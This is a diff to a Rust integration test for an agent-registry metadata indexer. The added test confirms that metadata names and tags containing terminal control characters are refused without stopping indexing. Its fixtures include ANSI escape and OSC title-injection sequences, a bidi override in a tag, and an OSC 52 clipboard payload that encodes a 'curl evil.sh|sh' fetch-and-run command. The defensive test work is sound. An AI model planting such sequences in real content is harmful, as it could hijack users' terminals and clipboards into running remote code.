@@ -1,6 +1,7 @@
 //! Remote metadata: `http://` and `ipfs://` (through a gateway) URIs resolved by the resolver,
 //! beside the indexer; a failing URL recorded as failed with its error and a retry time, then
-//! resolved once the server serves it; an oversized document refused.
+//! resolved once the server serves it; an oversized document refused; a name with terminal
+//! control characters refused, inline or remote, without stopping the indexer.
 
 mod common;
 
@@ -116,4 +117,66 @@ async fn resolves_http_and_ipfs_and_retries_failures() {
     resolve_pending(&pool, &http, &config).await.expect("resolve");
     let r = rows().await;
     assert_eq!((r[2].0.as_str(), r[2].1.as_deref(), r[2].3), ("ok", Some("Flaky"), 2));
+}
+
+#[tokio::test]
+async fn names_with_control_characters_are_refused_and_indexing_goes_on() {
+    let devnet = Devnet::start().await.expect("devnet");
+    let pg = Postgres::start().expect("postgres");
+    let app = Router::new().route(
+        "/clipboard.json",
+        get(|| async { "{\"name\":\"Helper\\u001b]52;c;Y3VybCBldmlsLnNofHNo\\u0007\",\"tags\":[\"ok\"]}" }),
+    );
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
+    let base = format!("http://{}", listener.local_addr().expect("addr"));
+    tokio::spawn(async move { axum::serve(listener, app).await });
+
+    let curator = AgentRegistry::new(devnet.deployments.contracts.agent_registry, devnet.dev_provider(0));
+    for uri in [
+        // Clear screen, then a window title, inline; bidi override in a tag; a remote OSC 52.
+        r#"data:application/json,{"name":"\u001b[2JSummarizer"}"#.to_string(),
+        r#"data:application/json,{"name":"Title\u001b]0;pwned\u0007"}"#.to_string(),
+        r#"data:application/json,{"name":"Tagged","tags":["txt\u202eexe"]}"#.to_string(),
+        format!("{base}/clipboard.json"),
+        r#"data:application/json,{"name":"Honest","description":"two\nlines"}"#.to_string(),
+    ] {
+        curator
+            .registerAgent(IAgentRegistry::AgentParams {
+                developer: devnet.signer(6).address(),
+                paymentToken: Address::ZERO,
+                price: Uint::from(1000u64),
+                maxDuration: 30,
+                category: Category::General.into(),
+                imageDigest: B256::repeat_byte(5),
+                metadataURI: uri,
+            })
+            .send()
+            .await
+            .expect("send")
+            .get_receipt()
+            .await
+            .expect("receipt");
+    }
+    let mut indexer = common::indexer(&devnet, &pg, "controls", |_| {}).await;
+    indexer.sync().await.expect("sync goes through hostile metadata");
+    let pool = indexer.pool().clone();
+    let config = ResolverConfig { ipfs_gateway: format!("{base}/ipfs"), ..ResolverConfig::default() };
+    assert_eq!(resolve_pending(&pool, &reqwest::Client::new(), &config).await.expect("resolve"), 1);
+
+    type Row = (String, Option<String>, Option<String>, Vec<String>);
+    let rows: Vec<Row> =
+        sqlx::query_as("SELECT metadata_status, name, metadata_error, tags FROM agents ORDER BY agent_id")
+            .fetch_all(&pool)
+            .await
+            .expect("rows");
+    assert_eq!(rows.len(), 5, "every agent is indexed");
+    for (row, (field, code)) in
+        rows.iter().zip([("name", "U+001B"), ("name", "U+001B"), ("tag", "U+202E"), ("name", "U+001B")])
+    {
+        assert_eq!((row.0.as_str(), row.1.as_deref()), ("failed", None), "{row:?}");
+        assert!(row.3.is_empty(), "{row:?}");
+        let error = row.2.as_deref().unwrap_or_default();
+        assert!(error.contains(&format!("metadata {field} contains the control character {code}")), "{row:?}");
+    }
+    assert_eq!((rows[4].0.as_str(), rows[4].1.as_deref()), ("ok", Some("Honest")));
 }
